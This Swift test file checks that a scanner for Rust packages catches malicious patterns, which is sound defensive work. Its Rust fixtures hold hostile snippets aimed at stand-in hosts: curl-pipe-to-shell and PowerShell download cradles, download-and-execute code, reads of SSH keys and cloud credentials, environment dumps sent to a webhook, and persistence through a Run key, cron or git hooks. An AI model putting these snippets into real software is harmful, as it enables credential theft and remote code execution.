import MoatFindings
import MoatInspection
import MoatModel
import Testing

/// The mechanisms of the incidents, written otherwise: rules name what is done, not how it was spelt.
@Suite struct `Variants` {
  struct Variant: Sendable, CustomTestStringConvertible {
    let name: String
    let rule: String
    let files: [(String, String)]
    /// What a note begins with.
    let place: String?

    init(_ name: String, _ rule: String, at place: String? = nil, _ files: (String, String)...) {
      self.name = name
      self.rule = rule
      self.place = place
      self.files = files
    }

    var testDescription: String { "\(rule): \(name)" }
  }

  private static let proc = """
    [package]
    name = "sample"
    version = "1.0.0"
    edition = "2021"
    [lib]
    proc-macro = true
    """

  /// Crates that the variants use; a crate counts only where the manifest has it.
  private static let dependencies: String = {
    let names = [
      "ureq", "reqwest", "libc", "dirs", "obfstr", "isahc", "tokio", "attohttpc", "minreq",
      "libloading", "regex", "home", "jwalk", "ctor",
    ]
    return "[build-dependencies]\n" + names.map { "\($0) = \"1\"\n" }.joined()
      + "[dependencies]\n" + names.map { "\($0) = \"1\"\n" }.joined()
  }()

  private static func manifest(_ rest: String) -> String {
    "[package]\nname = \"sample\"\nversion = \"1.0.0\"\nedition = \"2021\"\n" + rest
  }

  static let network: [Variant] = [
    Variant(
      "an alias of the type", "network-in-build-script", at: "build.rs:2:",
      (
        "build.rs",
        "use std::net::TcpStream as Pipe;\nfn main() { let _ = Pipe::connect(\"h:1\"); }"
      )),
    Variant(
      "an alias of the module", "network-in-build-script", at: "build.rs:3:",
      ("build.rs", "use std::{fs, net as wire};\nfn main() {\n  wire::UdpSocket::bind(\"h:1\"); }")),
    Variant(
      "a chain of aliases", "network-in-build-script",
      (
        "build.rs",
        "use std as s;\nuse s::net as n;\nuse n::TcpStream as T;\nfn main() { T::connect(\"h:1\"); }"
      )),
    Variant(
      "everything of a module", "network-in-build-script",
      ("build.rs", "use std::net::*;\nfn main() { TcpStream::connect(\"h:1\").unwrap(); }")),
    Variant(
      "a crate renamed in the code", "network-in-build-script",
      (
        "build.rs",
        "extern crate ureq as util;\nfn main() { util::get(\"http://h.invalid\").call(); }"
      )),
    Variant(
      "a crate renamed in the manifest", "network-in-build-script",
      (
        "Cargo.toml",
        manifest("[build-dependencies]\nversion_tool = { package = \"ureq\", version = \"2\" }\n")
      ),
      ("build.rs", "fn main() { version_tool::get(\"http://h.invalid\").call(); }")),
    Variant(
      "a module of the build script", "network-in-build-script", at: "build/probe.rs:1:",
      ("build.rs", "mod build { pub mod probe; }\nfn main() { build::probe::run() }"),
      ("build/probe.rs", "pub fn run() { std::net::TcpStream::connect(\"h:1\"); }")),
    Variant(
      "a module with a path", "network-in-build-script", at: "assets/table.txt:1:",
      ("build.rs", "#[path = \"assets/table.txt\"]\nmod table;\nfn main() { table::run() }"),
      ("assets/table.txt", "pub fn run() { std::net::TcpStream::connect(\"h:1\"); }")),
    Variant(
      "a repository that is cloned", "network-in-build-script", at: "build.rs:2:",
      (
        "build.rs",
        "use std::process::Command;\nfn main() { Command::new(\"git\").current_dir(d).args([\"-c\", \"a.b=c\", \"clone\", u]).status(); }"
      )),
    Variant(
      "a repository that xshell clones", "network-in-build-script", at: "build.rs:2:",
      (
        "Cargo.toml", manifest("[build-dependencies]\nxshell = \"0.2\"\n")
      ),
      (
        "build.rs",
        "use xshell::cmd;\nfn main() { cmd!(sh, \"git -C {dir} clone {url}\").run(); }"
      )),
    Variant(
      "a repository that a shell clones", "network-in-build-script", at: "build.rs:2:",
      (
        "build.rs",
        "use std::process::Command;\nfn main() { Command::new(\"sh\").args([\"-c\", \"cd out && git clone https://h.invalid/r\"]).status(); }"
      )),
    Variant(
      "an included file", "network-in-build-script", at: "assets/part.in:1:",
      ("build.rs", "include!(\"assets/part.in\");\nfn main() { run() }"),
      ("assets/part.in", "fn run() { std::net::TcpStream::connect(\"h:1\"); }")),
    Variant(
      "another name for the build script", "network-in-build-script", at: "tools/gen.rs:1:",
      ("Cargo.toml", manifest("build = \"tools/gen.rs\"\n")),
      ("tools/gen.rs", "fn main() { std::net::TcpStream::connect(\"h:1\"); }")),
    Variant(
      "within a macro", "network-in-build-script",
      (
        "build.rs",
        "macro_rules! go { () => { std::net::TcpStream::connect(\"h:1\") } }\nfn main() { go!(); }"
      )),
    Variant(
      "as an argument of a macro", "network-in-build-script",
      ("build.rs", "fn main() { println!(\"{:?}\", std::net::TcpStream::connect(\"h:1\")); }")),
    Variant(
      "only on Windows", "network-in-build-script",
      (
        "build.rs",
        "#[cfg(windows)]\nfn go() { std::net::TcpStream::connect(\"h:1\"); }\nfn main() { #[cfg(windows)] go() }"
      )),
    Variant(
      "raw identifiers", "network-in-build-script",
      ("build.rs", "fn main() { r#std::r#net::r#TcpStream::connect(\"h:1\"); }")),
    Variant(
      "comments between the parts", "network-in-build-script",
      ("build.rs", "fn main() { std /* a */ :: net // b\n :: TcpStream::connect(\"h:1\"); }")),
    Variant(
      "a leading colon", "network-in-build-script",
      ("build.rs", "fn main() { ::std::net::TcpStream::connect(\"h:1\"); }")),
    Variant(
      "an alias of a type", "network-in-build-script",
      (
        "build.rs",
        "type Wire = std::net::TcpStream;\nfn main() { let _ = <Wire>::connect(\"h:1\"); }"
      )),
    Variant(
      "functions of libc", "network-in-build-script",
      ("build.rs", "fn main() { unsafe { libc::socket(2, 1, 0); libc::connect(3, p, 16); } }")),
    Variant(
      "declarations of its own", "network-in-build-script",
      (
        "build.rs",
        "extern \"C\" { fn socket(a: i32, b: i32, c: i32) -> i32; fn connect(a: i32, b: *const u8, c: u32) -> i32; }\nfn main() { unsafe { socket(2, 1, 0); } }"
      )),
    Variant(
      "a program that fetches", "network-in-build-script",
      (
        "build.rs",
        "use std::process::Command as C;\nfn main() { C::new(\"/usr/bin/wget\").status(); }"
      )),
    Variant(
      "the name of a program in a constant", "network-in-build-script",
      (
        "build.rs",
        "const TOOL: &str = \"curl\";\nfn main() { std::process::Command::new(TOOL).status(); }"
      )),
    Variant(
      "a script that fetches", "network-in-build-script",
      (
        "build.rs",
        "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://h.invalid/x | sh\").status(); }"
      )),
    Variant(
      "PowerShell", "network-in-build-script",
      (
        "build.rs",
        "fn main() { std::process::Command::new(\"powershell\").arg(\"-Command\").arg(\"iex (New-Object Net.WebClient).DownloadString('http://h.invalid')\").spawn(); }"
      )),
    Variant(
      "a derive macro", "network-in-proc-macro", at: "src/expand.rs:1:",
      ("Cargo.toml", proc),
      (
        "src/lib.rs",
        "mod expand;\n#[proc_macro_derive(X)] pub fn x(i: TokenStream) -> TokenStream { i }"
      ),
      ("src/expand.rs", "use std::net::{TcpStream as S}; fn go() { S::connect(\"h:1\"); }")),
  ]

  static let building: [Variant] = [
    Variant(
      "an iterator of all variables", "all-variables-in-build-script",
      (
        "build.rs",
        "use std::env::{self, vars_os as all};\nfn main() { for (k, v) in all() { std::fs::write(k, v); } }"
      )),
    Variant(
      "the kernel's view of them", "secrets-in-build-script",
      ("build.rs", "fn main() { std::fs::read(\"/proc/self/environ\"); }")),
    Variant(
      "a token by its name", "secrets-in-build-script",
      ("build.rs", "fn main() { let _ = std::env::var(\"CARGO_REGISTRY_TOKEN\"); }")),
    Variant(
      "a token put together", "secrets-in-build-script",
      ("build.rs", "fn main() { let _ = std::env::var(concat!(\"CARGO_REGISTRY\", \"_TOKEN\")); }")),
    Variant(
      "a token at compile time", "secrets-in-build-script",
      ("build.rs", "const T: Option<&str> = option_env!(\"GITHUB_TOKEN\");\nfn main() {}")),
    Variant(
      "a path in pieces", "secrets-in-build-script",
      (
        "build.rs",
        "fn main() { let p = std::path::Path::new(\"/root\").join(\".ssh\").join(\"id_rsa\"); }"
      )),
    Variant(
      "a C string", "secrets-in-build-script",
      ("build.rs", "fn main() { unsafe { libc::open(c\"/root/.aws/credentials\".as_ptr(), 0); } }")),
    Variant(
      "bytes", "secrets-in-build-script",
      ("build.rs", "fn main() { let p = std::str::from_utf8(b\"/root/.netrc\"); }")),
    Variant(
      "escapes", "secrets-in-build-script",
      ("build.rs", "fn main() { let p = \"/root/\\x2e\\u{73}sh/id_rsa\"; }")),
    Variant(
      "a raw string", "secrets-in-build-script",
      ("build.rs", "fn main() { let p = r##\"C:\\Users\\x\\.ssh\\id_rsa\"##; }")),
    Variant(
      "home by its variable", "build-script-outside-path",
      (
        "build.rs",
        "fn main() { let h = std::env::var_os(\"HOME\"); std::fs::read_dir(h.unwrap()); }"
      )),
    Variant(
      "home by a crate", "build-script-outside-path",
      ("build.rs", "use dirs::home_dir as h;\nfn main() { h(); }")),
    Variant(
      "up from OUT_DIR", "build-script-outside-path",
      (
        "build.rs",
        "use std::path::Path;\nfn main() { let o = std::env::var(\"OUT_DIR\").unwrap(); let p = Path::new(&o).ancestors().nth(6); }"
      )),
    Variant(
      "the version control of the consumer", "build-script-outside-path",
      (
        "build.rs",
        "fn main() { let o = std::env::var(\"OUT_DIR\").unwrap(); std::fs::read_to_string(o + \"/../../../../.git/HEAD\"); }"
      )),
    Variant(
      "base64 in constants", "obfuscated-build-script",
      (
        "build.rs",
        "const A: &str = \"aHR0cHM6Ly9hLmV4YW1wb\";\nconst B: &str = \"GUuaW52YWxpZC94\";\nfn main() { d([A, B].concat()); }"
      )),
    Variant(
      "hex of an address", "obfuscated-build-script",
      (
        "build.rs",
        "const A: &str = \"68747470733a2f2f612e6578616d706c652e696e76616c69642f78\";\nfn main() {}"
      )),
    Variant(
      "letters one by one", "obfuscated-build-script",
      (
        "build.rs",
        "fn main() { let a: String = ['h','t','t','p','s',':','/','/','a','.','e','x','a','m','p','l','e'].iter().collect(); }"
      )),
    Variant(
      "bytes of an address", "obfuscated-build-script",
      (
        "build.rs",
        "const A: [u8; 20] = [104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 47, 120, 47];\nfn main() {}"
      )),
    Variant(
      "a crate for hiding", "obfuscated-build-script",
      ("build.rs", "fn main() { let a = obfstr::obfstr!(\"x\"); }")),
    Variant(
      "a client under another name", "network-build-dependency",
      (
        "Cargo.toml",
        manifest("[build-dependencies]\nhelper = { package = \"attohttpc\", version = \"0.28\" }\n")
      ), ("build.rs", "fn main() {}")),
    Variant(
      "a client only for one target", "network-build-dependency",
      (
        "Cargo.toml",
        manifest("[target.'cfg(windows)'.build-dependencies]\nureq = \"2\"\n")
      ), ("build.rs", "fn main() {}")),
    Variant(
      "a proc macro with a client", "network-build-dependency",
      ("Cargo.toml", proc + "\n[dependencies]\nureq = \"2\"\n"), ("src/lib.rs", "")),
    Variant(
      "a program of git's", "writes-assistant-files",
      (
        "build.rs",
        "fn main() { std::fs::write(\"../../.git/hooks/post-checkout\", \"#!/bin/sh\"); }"
      )),
  ]

  static let product: [Variant] = [
    Variant(
      "over several files", "credentials-and-network",
      ("src/lib.rs", "mod a; mod b;"),
      (
        "src/a.rs",
        "pub fn f() { std::fs::read(\"/root/.ssh/id_rsa\"); std::fs::read(\".npmrc\"); }"
      ),
      ("src/b.rs", "pub fn g() { isahc::post(\"https://h.invalid\", ()); }")),
    Variant(
      "in a private module behind a feature", "credentials-and-network",
      ("src/lib.rs", "#[cfg(feature = \"metrics\")] mod a;"),
      (
        "src/a.rs",
        "pub fn f() { std::fs::read(\"x/wallet.dat\"); std::fs::read(\"y/logins.json\"); std::net::TcpStream::connect(\"h:1\"); }"
      )),
    Variant(
      "names put together", "credentials-and-network",
      (
        "src/lib.rs",
        "const A: &str = concat!(\".aws\", \"/credentials\"); const B: &str = concat!(\".\", \"ssh\", \"/\", \"id_rsa\"); pub fn f() { reqwest::get(A); }"
      )),
    Variant(
      "async", "credentials-and-network",
      (
        "src/lib.rs",
        "pub async fn f() { tokio::fs::read(\"~/.ssh/id_rsa\").await; tokio::fs::read(\"~/.netrc\").await; tokio::net::TcpStream::connect(\"h:1\").await; }"
      )),
    Variant(
      "all variables to a hook", "secrets-and-network",
      (
        "src/lib.rs",
        "use std::env as e;\npub fn f() { let v: Vec<_> = e::vars_os().collect(); ureq::post(\"https://discord.com/api/webhooks/0/x\"); }"
      )),
    Variant(
      "a program for Windows", "download-and-run",
      (
        "src/lib.rs",
        """
        #[cfg(windows)]
        pub fn f() {
          let b = attohttpc::get("http://h.invalid/a").send().unwrap().bytes().unwrap();
          let p = std::env::temp_dir().join("a.exe");
          std::fs::write(&p, b).unwrap();
          std::process::Command::new(p).spawn().unwrap();
        }
        """
      )),
    Variant(
      "async, with a folder for everybody", "download-and-run",
      (
        "src/lib.rs",
        """
        pub async fn f() {
          let b = reqwest::get("http://h.invalid/a").await.unwrap().bytes().await.unwrap();
          tokio::fs::write("/dev/shm/.a", b).await.unwrap();
          tokio::fs::set_permissions("/dev/shm/.a", x).await.unwrap();
          tokio::process::Command::new("/dev/shm/.a").spawn().unwrap();
        }
        """
      )),
    Variant(
      "a library that is loaded", "download-and-run",
      (
        "src/lib.rs",
        """
        use std::os::unix::fs::PermissionsExt;
        pub fn f() {
          let b = minreq::get("http://h.invalid/a").send().unwrap();
          std::fs::write("/tmp/a.so", b.as_bytes()).unwrap();
          unsafe { libloading::Library::new("/tmp/a.so").unwrap(); }
        }
        """
      )),
    Variant(
      "a script in a constant", "download-and-run",
      (
        "src/lib.rs",
        "const S: &str = \"wget -qO- http://h.invalid/a | bash\";\npub fn f() { std::process::Command::new(\"bash\").arg(\"-c\").arg(S).spawn(); }"
      )),
    Variant(
      "a program in the source", "runs-dropped-file",
      (
        "src/lib.rs",
        """
        use std::os::unix::fs::PermissionsExt;
        const P: &[u8] = include_bytes!("p");
        pub fn f() {
          std::fs::write("/tmp/.p", P).unwrap();
          std::fs::set_permissions("/tmp/.p", std::fs::Permissions::from_mode(0o755)).unwrap();
          std::process::Command::new("/tmp/.p").spawn().unwrap();
        }
        """
      )),
    Variant(
      "a verifier of its own, and a program", "certificate-check-off",
      (
        "src/lib.rs",
        "pub fn f() { let c = reqwest::Client::builder().danger_accept_invalid_certs(true).build(); std::process::Command::new(\"x\"); }"
      )),
    Variant(
      "a paste site", "exfiltration-endpoint",
      ("src/lib.rs", "pub fn f() { ureq::get(\"https://pastebin.com/raw/x\").call(); }")),
    Variant(
      "a host put together", "encoded-payload",
      (
        "src/lib.rs",
        "const A: &str = concat!(\"https://\", \"api.tele\", \"gram.org\", \"/bot0\"); pub fn f() { ureq::get(A); }"
      )),
    Variant(
      "a hidden service", "exfiltration-endpoint",
      (
        "src/lib.rs",
        "pub fn f() { ureq::get(\"http://moatfixturemoatfixturemoatfixturemoatfixturemoatfixture2.onion/\"); }"
      )),
    Variant(
      "ELF without an ending", "embedded-executable",
      ("src/lib.rs", ""),
      ("data/blob", "\u{7F}ELF\u{2}\u{1}\u{1}" + String(repeating: "\0", count: 80))),
    Variant(
      "WebAssembly that calls itself text", "embedded-executable",
      ("src/lib.rs", ""), ("src/table.txt", "\0asm\u{1}\0\0\0" + String(repeating: "\0", count: 40))
    ),
    Variant(
      "a seed phrase", "wallet-keys-and-network",
      (
        "src/lib.rs",
        "pub fn f() { let r = regex::Regex::new(r\"\\b(?:[a-z]+\\s){11,23}[a-z]+\\b\"); ureq::get(\"http://h.invalid\"); }"
      )),
    Variant(
      "a walk of its own", "home-sweep",
      (
        "src/lib.rs",
        "pub fn f() { let h = home::home_dir().unwrap(); for e in jwalk::WalkDir::new(h) { isahc::post(\"http://h.invalid\", ()); } }"
      )),
    Variant(
      "a payload in base64", "encoded-payload",
      (
        "src/lib.rs",
        "const A: &str = \"IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovL2guaW52YWxpZC9hIHwgc2gK\";\npub fn f() { std::process::Command::new(\"sh\").arg(d(A)); }"
      )),
    Variant(
      "turned text", "hidden-text",
      (
        "src/lib.rs",
        "pub fn f(a: &str) -> bool { a != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\" }"
      )),
    Variant(
      "letters of two scripts", "mixed-script-identifier",
      ("src/lib.rs", "pub fn sc\u{43E}pe() {}")),
    Variant(
      "a day to come", "conditional-payload",
      (
        "src/lib.rs",
        """
        pub fn f() {
          let n = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap();
          if n.as_secs() > 1893456000 {
            let b = ureq::get("http://h.invalid").call().unwrap();
            std::process::Command::new("sh").arg("-c").arg(b.into_string().unwrap()).spawn();
          }
        }
        """
      )),
    Variant(
      "a section by hand", "code-before-main",
      (
        "src/lib.rs",
        "#[used]\n#[link_section = \".init_array\"]\nstatic F: extern \"C\" fn() = f;\nextern \"C\" fn f() { std::process::Command::new(\"x\").spawn(); }"
      )),
    Variant(
      "a macro of a crate", "code-before-main",
      ("src/lib.rs", "#[ctor::ctor]\nfn f() { std::net::TcpStream::connect(\"h:1\"); }")),
    Variant(
      "a Run key", "starts-by-itself",
      (
        "src/lib.rs",
        "#[cfg(windows)] pub fn f() { std::process::Command::new(\"reg\").args([\"add\", r\"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\"]).status(); }"
      )),
    Variant(
      "a table of times", "starts-by-itself",
      (
        "src/lib.rs",
        "pub fn f() { std::fs::write(\"/etc/cron.d/x\", \"* * * * * root true\\n\"); }"
      )),
    Variant(
      "rules for an assistant", "writes-assistant-files",
      (
        "src/lib.rs",
        "pub fn f(p: &std::path::Path) { std::fs::write(p.join(\"CLAUDE.md\"), \"x\"); std::fs::write(p.join(\".cursor/rules/a.mdc\"), \"x\"); }"
      )),
  ]

  @Test(arguments: network + building + product)
  func `are found`(variant: Variant) throws {
    let others = [("src/lib.rs", ""), ("Cargo.toml", Self.manifest(Self.dependencies))]
      .filter { other in !variant.files.contains { $0.0 == other.0 } }
    let package = InspectedTree.package("sample", "1.0.0", variant.files + others)
    let findings = InspectedTree.findings(in: [package])
    let ours = findings.filter { $0.rule == variant.rule }
    #expect(
      !ours.isEmpty,
      "\(findings.map { "\($0.rule): \($0.notes.joined(separator: " · "))" }) \(package.inspection)"
    )
    if let place = variant.place {
      #expect(ours.contains { $0.notes.contains { $0.hasPrefix(place) } }, "\(ours.map(\.notes))")
    }
  }
}
